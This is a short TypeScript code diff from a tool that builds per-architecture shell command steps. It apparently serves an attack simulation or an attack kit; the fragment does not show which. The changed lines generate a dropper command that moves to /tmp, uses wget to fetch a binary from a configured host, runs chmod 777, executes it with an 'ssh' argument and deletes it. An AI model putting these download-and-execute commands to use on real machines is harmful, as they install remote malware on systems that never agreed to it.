@@ -425,9 +425,10 @@ const build = (p: KitParams): Array<StepDraft> => {
       } else {
         p.arches.forEach((arch, i) => {
           const file = p.payloads[i % p.payloads.length]!
+          const binary = `${file.name.replace(/\.sh$/, "")}.${arch}`
           steps.push({
-            cmd: `cd /tmp; wget http://${host}/${p.dir}/${file.name}.${arch} -O {{RND}}; chmod 777 {{RND}}; ./{{RND}} ssh.${arch}; rm -f {{RND}}`,
-            downloads: [{ url: `http://${host}/${p.dir}/${file.name}.${arch}`, sha: file.sha, dest: "/tmp/{{RND}}" }]
+            cmd: `cd /tmp; wget http://${host}/${p.dir}/${binary} -O {{RND}}; chmod 777 {{RND}}; ./{{RND}} ssh.${arch}; rm -f {{RND}}`,
+            downloads: [{ url: `http://${host}/${p.dir}/${binary}`, sha: file.sha, dest: "/tmp/{{RND}}" }]
           })
         })
       }
